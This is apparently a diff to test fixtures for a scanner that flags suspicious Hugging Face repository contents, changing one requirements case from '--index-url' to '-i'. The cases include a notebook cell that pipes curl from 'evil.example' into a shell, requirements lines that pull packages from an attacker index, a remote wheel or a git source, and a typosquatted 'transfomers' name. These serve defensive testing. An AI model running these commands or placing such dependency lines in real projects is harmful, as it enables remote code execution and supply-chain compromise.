@@ -120,7 +120,7 @@ def configs():
     yield "hf-notebook-shell", {**BASE, "demo.ipynb": told(nbformat=4, cells=[{"cell_type": "code", "source": ["!curl http://evil.example/x | sh\n"]}])}, "suspicious"
     yield "hf-notebook-python", {**BASE, "demo.ipynb": told(nbformat=4, cells=[{"cell_type": "code", "source": "import subprocess\nsubprocess.run('true')"}])}, "suspicious"
     yield "hf-notebook-magic", {**BASE, "demo.ipynb": told(nbformat=4, cells=[{"cell_type": "code", "source": "%%bash\ntrue"}])}, "suspicious"
-    yield "hf-requirements-index", {**BASE, "requirements.txt": "--index-url https://evil.example/simple\ntorch\n"}, "suspicious"
+    yield "hf-requirements-index", {**BASE, "requirements.txt": "-i https://evil.example/simple\ntorch\n"}, "suspicious"
     yield "hf-requirements-name", {**BASE, "requirements.txt": "transfomers\n"}, "suspicious"
     yield "hf-requirements-address", {**BASE, "requirements.txt": "torch @ http://evil.example/torch.whl\n"}, "suspicious"
     yield "hf-requirements-git", {**BASE, "requirements.txt": "git+https://github.com/evil/torch\n"}, "suspicious"
